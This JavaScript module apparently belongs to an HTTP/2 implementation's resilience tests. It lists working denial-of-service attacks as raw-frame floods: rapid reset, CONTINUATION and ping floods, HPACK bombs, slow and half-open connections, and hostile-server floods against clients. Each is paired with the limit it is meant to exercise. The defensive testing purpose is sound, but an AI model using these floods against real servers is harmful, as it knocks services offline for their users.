'use strict';

/**
 * The attacks, each by its names. `against` is what is attacked: 'server', 'tls' (a server by node:tls),
 * 'rustls' (one by rustls, where there is one) or 'client'. An
 * attack on a server is run with a port, until `until` (ms of the monotonic clock), and resolves to
 * how its first session ended; one on a client is told of a connection's socket, which is TLS if
 * it is `secure`.
 *
 * `detectable`: nobody does that in good faith, so that the session must end; with `code`, if that
 * is the protocol's for it.
 */

const net = require('node:net');
const { frame } = require('../../support/frames');
const {
  END_HEADERS,
  GET,
  RawClient,
  headers,
  request,
  reset,
  settings,
  uint32,
  windowUpdate,
} = require('../../support/raw-client');

const MAX_WINDOW = 2 ** 31 - 1;
const INITIAL_WINDOW_SIZE = 4;
const MAX_FRAME = 16_384;

const times = (count, make) => Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
/** A request for an endless body. */
const GET_BIG = Buffer.concat([
  Buffer.from([0x82, 0x86, 0x41, 0x01, 0x61, 0x04, 0x04]),
  Buffer.from('/big'),
]);

/** Writes what `make` returns until the connection or the time ends; then waits for the end. */
async function flood(client, until, make) {
  let open = true;
  client.closed.then(() => (open = false));
  for (let round = 0; open && performance.now() < until; round++) {
    const flowing = client.write(make(round));
    if (flowing) await pause(0);
    else {
      await Promise.race([
        new Promise((resolve) => client.socket.once('drain', resolve)),
        client.closed,
        pause(Math.max(0, until - performance.now())),
      ]);
    }
  }
  if (open) await Promise.race([client.closed, pause(200)]);
}

/** An attack by one connection after the other; the first one's end counts. */
function flooding(make, { opening = () => [], reads = true } = {}) {
  return async (port, until) => {
    let first;
    do {
      const client = await RawClient.connect(port);
      let ended = false;
      client.closed.then(() => (ended = true));
      if (!reads) client.socket.pause();
      client.open(...opening());
      await flood(client, until, make);
      // What was said last is read even by who did not read before.
      if (!reads && !ended) {
        client.socket.resume();
        await Promise.race([client.closed, pause(100)]);
      }
      first ??= { ended, code: client.goawayCode() };
      client.destroy();
    } while (performance.now() < until);
    return first;
  };
}

/** Connections that only wait, and are dropped at the end. */
function waiting(count, octets) {
  return async (port, until) => {
    const sockets = Array.from({ length: count }, () =>
      net.connect(port, '127.0.0.1').on('error', () => {}),
    );
    for (let i = 0; performance.now() < until; i++) {
      for (const socket of sockets) {
        const next = octets.subarray(i % octets.length, (i % octets.length) + 1);
        if (socket.writable) socket.write(i === 0 ? octets.subarray(0, 1) : next);
      }
      await pause(1000);
    }
    for (const socket of sockets) socket.destroy();
    return { ended: false };
  };
}

async function openAndDrop(port) {
  const BATCH = 100;
  for (let i = 0; i < 10_000 / BATCH; i++) {
    const clients = await Promise.all(
      Array.from({ length: BATCH }, () => RawClient.connect(port).catch(() => undefined)),
    );
    for (const [at, client] of clients.entries()) {
      if (client === undefined) continue;
      client.open(request(1));
      if (at % 2 === 0) client.raw.resetAndDestroy();
      else client.destroy();
    }
  }
  return { ended: false };
}

/** Octets that a hostile server sends again and again, whatever the client says. */
function serving(make) {
  return (socket, until) => {
    socket.on('error', () => {}).resume();
    socket.write(frame('SETTINGS'));
    let round = 0;
    const fill = () => {
      let flowing = true;
      while (flowing && !socket.destroyed && performance.now() < until()) {
        flowing = socket.write(make(round++));
      }
    };
    socket.on('drain', fill);
    // Once the request is there.
    socket.once('data', () => setTimeout(fill, 20));
  };
}

const wideOpen = () => [
  settings([[INITIAL_WINDOW_SIZE, MAX_WINDOW]]),
  windowUpdate(0, MAX_WINDOW - 65_535),
];
/** Stream identifiers that grow from round to round. */
const id = (round, i, perRound) => 2 * (round * perRound + i) + 1;
const ping = frame('PING', { payload: Buffer.alloc(8) });
const literal = (name, value) =>
  Buffer.concat([
    Buffer.from([0x00, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
const raw = (type, stream, payload, flags = 0) => {
  const octets = frame('DATA', { flags, stream, payload });
  octets[3] = type;
  return octets;
};
/** How a ClientHello begins. */
const HELLO = Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);
/** A field of 3900 octets, then 12,000 times its index. */
const bomb = (stream, start, flags) => {
  const value = Buffer.alloc(3900, 'b');
  const insert = Buffer.concat([
    Buffer.from([0x40, 1]),
    Buffer.from('x'),
    Buffer.from([0x7f, 0xbd, 0x1d]),
    value,
  ]);
  return headers(stream, Buffer.concat([start, insert, Buffer.alloc(12_000, 0xbe)]), flags);
};
/** Field blocks of a response, and of an interim one. */
const OK = Buffer.from([0x88]);
const EARLY_HINTS = Buffer.concat([Buffer.from([0x08, 3]), Buffer.from('103')]);
/** A response that begins, then the same again and again. */
const responding = (flags, make) =>
  serving((round) => (round === 0 ? headers(1, OK, flags) : times(200, make)));

const ATTACKS = [
  {
    name: 'data dribble (CVE-2019-9511)',
    against: 'server',
    budget: 'write slabs, flow control',
    run: flooding((round) => times(100, (i) => windowUpdate(2 * (i % 50) + 1, 1 + (round & 1))), {
      opening: () => [
        settings([[INITIAL_WINDOW_SIZE, 1]]),
        ...Array.from({ length: 50 }, (_, i) => request(2 * i + 1, { block: GET_BIG })),
      ],
    }),
  },
  {
    name: 'ping flood (CVE-2019-9512)',
    against: 'server',
    detectable: true,
    budget: 'maxUnsentAcks: 1000',
    run: flooding(() => times(500, () => ping), { reads: false }),
  },
  {
    name: 'resource loop (CVE-2019-9513)',
    against: 'server',
    budget: 'no priority tree',
    run: flooding((round) =>
      times(500, (i) =>
        frame('PRIORITY', {
          stream: 2 * i + 1,
          payload: Buffer.concat([uint32(2 * ((i * 7 + round) % 900) + 2), Buffer.from([i & 255])]),
        }),
      ),
    ),
  },
  {
    name: 'reset flood (CVE-2019-9514)',
    against: 'server',
    detectable: true,
    budget: 'maxSessionInvalidFrames: 1000',
    run: flooding((round) => times(200, (i) => headers(id(round, i, 200), Buffer.from([0x88]))), {
      reads: false,
    }),
  },
  {
    name: 'settings flood (CVE-2019-9515)',
    against: 'server',
    detectable: true,
    budget: 'maxUnsentAcks: 1000',
    run: flooding(() => times(500, () => frame('SETTINGS')), { reads: false }),
  },
  {
    name: 'empty-name headers (CVE-2019-9516)',
    against: 'server',
    budget: 'no field without a name is kept',
    run: flooding((round) =>
      times(50, (i) =>
        headers(id(round, i, 50), Buffer.concat([GET, times(100, () => literal('', ''))])),
      ),
    ),
  },
  {
    name: 'internal data buffering (CVE-2019-9517)',
    against: 'server',
    budget: 'highWaterMark, maxSessionMemory',
    run: flooding(
      (round) =>
        round < 10
          ? times(10, (i) => request(id(round, i, 10), { block: GET_BIG }))
          : Buffer.alloc(0),
      { opening: wideOpen, reads: false },
    ),
  },
  {
    name: 'empty DATA frames (CVE-2019-9518)',
    against: 'server',
    detectable: true,
    budget: 'maxSessionInvalidFrames: 1000',
    run: flooding(() => times(500, () => frame('DATA', { stream: 1 })), {
      opening: () => [request(1, { flags: END_HEADERS, block: GET_BIG })],
    }),
  },
  {
    name: 'rapid reset (CVE-2023-44487)',
    against: 'server',
    detectable: true,
    budget: 'streamResetBurst, streamResetRate',
    run: flooding((round) =>
      times(200, (i) => Buffer.concat([request(id(round, i, 200)), reset(id(round, i, 200), 8)])),
    ),
  },
  {
    name: 'CONTINUATION flood (CVE-2024-27983)',
    against: 'server',
    detectable: true,
    budget: 'maxContinuations: 8',
    run: flooding(
      () => times(200, () => frame('CONTINUATION', { stream: 1, payload: literal('a', 'b') })),
      { opening: () => [headers(1, GET, 0)] },
    ),
  },
  {
    name: 'CONTINUATION and teardown (CVE-2024-27983)',
    against: 'server',
    budget: 'one owner of the block',
    async run(port, until) {
      while (performance.now() < until) {
        const client = await RawClient.connect(port);
        client.open(
          headers(1, GET, 0),
          times(4, () => frame('CONTINUATION', { stream: 1, payload: literal('a', 'b') })),
        );
        await pause(1);
        client.raw.resetAndDestroy();
      }
      return { ended: false };
    },
  },
  {
    name: 'MadeYouReset (CVE-2025-8671)',
    against: 'server',
    detectable: true,
    budget: 'protocol error; maxSessionInvalidFrames',
    run: flooding((round) =>
      times(100, (i) =>
        Buffer.concat([
          request(id(round, i, 100), { block: GET_BIG }),
          windowUpdate(id(round, i, 100), MAX_WINDOW),
        ]),
      ),
    ),
  },
  {
    name: 'malformed HEADERS (CVE-2025-59465)',
    against: 'server',
    detectable: true,
    code: 'COMPRESSION_ERROR',
    budget: 'compression error',
    run: flooding(() => headers(1, Buffer.concat([GET, Buffer.alloc(10_000, 0xff)]))),
  },
  {
    name: 'window overflow, then WINDOW_UPDATEs',
    against: 'server',
    detectable: true,
    code: 'FLOW_CONTROL_ERROR',
    budget: 'flow-control error',
    run: flooding(() => times(500, () => windowUpdate(0, MAX_WINDOW))),
  },
  {
    name: 'HPACK bomb',
    against: 'server',
    detectable: true,
    budget: 'maxHeaderListSize, maxSessionInvalidFrames',
    run: flooding((round) => times(5, (i) => bomb(id(round, i, 5), GET))),
  },
  {
    name: 'a million header pairs',
    against: 'server',
    detectable: true,
    budget: 'maxHeaderListPairs: 128',
    run: flooding((round) =>
      times(4, (i) =>
        headers(id(round, i, 4), Buffer.concat([GET, Buffer.alloc(MAX_FRAME - 16, 0x90)])),
      ),
    ),
  },
  {
    name: 'a peer that never reads',
    against: 'server',
    budget: 'backpressure',
    run: flooding((round) => (round === 0 ? request(1, { block: GET_BIG }) : Buffer.alloc(0)), {
      opening: wideOpen,
      reads: false,
    }),
  },
  {
    name: '300 peers of a byte a second',
    against: 'server',
    budget: 'server.setTimeout',
    run: waiting(300, Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')),
  },
  {
    name: '300 half-open TLS handshakes',
    against: 'tls',
    budget: 'handshakeTimeout',
    run: waiting(300, HELLO),
  },
  {
    name: '300 half-open TLS handshakes, with rustls',
    against: 'rustls',
    budget: 'handshakeTimeout',
    run: waiting(300, HELLO),
  },
  {
    name: '10,000 connections opened and dropped',
    against: 'server',
    budget: 'nothing kept',
    run: openAndDrop,
  },
  {
    name: 'flood of 1xx',
    against: 'client',
    budget: 'HPACK table, one event each',
    run: serving(() => times(200, () => headers(1, EARLY_HINTS, END_HEADERS))),
  },
  {
    name: 'flood of PUSH_PROMISE',
    against: 'client',
    budget: 'maxReservedRemoteStreams: 200',
    run: serving((round) =>
      times(100, (i) =>
        frame('PUSH_PROMISE', {
          flags: END_HEADERS,
          stream: 1,
          payload: Buffer.concat([uint32(2 * (round * 100 + i) + 2), GET]),
        }),
      ),
    ),
  },
  {
    name: 'flood of ORIGIN',
    against: 'client',
    secure: true,
    detectable: true,
    budget: 'maxOriginSetSize: 128',
    run: serving((round) =>
      times(100, (i) => {
        const origin = Buffer.from(`https://${round}-${i}.example`);
        return raw(12, 0, Buffer.concat([Buffer.from([0, origin.length]), origin]));
      }),
    ),
  },
  {
    name: 'flood of ALTSVC',
    against: 'client',
    budget: 'one event each',
    run: serving(() =>
      times(100, () =>
        raw(
          10,
          0,
          Buffer.concat([Buffer.from([0, 9]), Buffer.from('https://a'), Buffer.from('h2=":1"')]),
        ),
      ),
    ),
  },
  {
    name: 'flood of PING',
    against: 'client',
    budget: 'backpressure',
    run: serving(() => times(500, () => ping)),
  },
  {
    name: 'flood of SETTINGS',
    against: 'client',
    budget: 'backpressure',
    run: serving(() => times(500, () => frame('SETTINGS'))),
  },
  {
    name: 'flood of CONTINUATION',
    against: 'client',
    detectable: true,
    budget: 'maxContinuations: 8',
    run: responding(0, () => frame('CONTINUATION', { stream: 1, payload: literal('a', 'b') })),
  },
  {
    name: 'flood of empty DATA frames',
    against: 'client',
    detectable: true,
    budget: 'maxSessionInvalidFrames: 1000',
    run: responding(END_HEADERS, () => frame('DATA', { stream: 1 })),
  },
  {
    name: 'HPACK bombs in 1xx',
    against: 'client',
    budget: 'maxHeaderListSize; a stream that was reset is not heard',
    run: serving(() => times(5, () => bomb(1, EARLY_HINTS, END_HEADERS))),
  },
];

module.exports = { ATTACKS };
